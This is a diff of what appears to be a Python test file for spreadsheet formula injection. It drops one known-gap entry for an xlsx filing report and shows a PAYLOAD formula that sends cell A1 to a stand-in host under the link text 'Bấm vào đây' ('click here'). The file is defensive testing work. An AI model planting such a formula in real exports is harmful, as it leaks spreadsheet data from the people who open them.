@@ -24,7 +24,6 @@ NOT_USER_TEXT = {
     "commands/resolve.py": "machine output of `lienket resolve`: the input file's own ids and entity labels",
 }
 KNOWN_GAPS = {
-    "web/programmes/xlsx.py": "filing report writes enterprise names as given (enterprise users edit them)",
     "web/intake/services.py": "the error report echoes uploaded cells as they were typed",
 }
 PAYLOAD = '=HYPERLINK("http://example.invalid/?leak="&A1,"Bấm vào đây")'
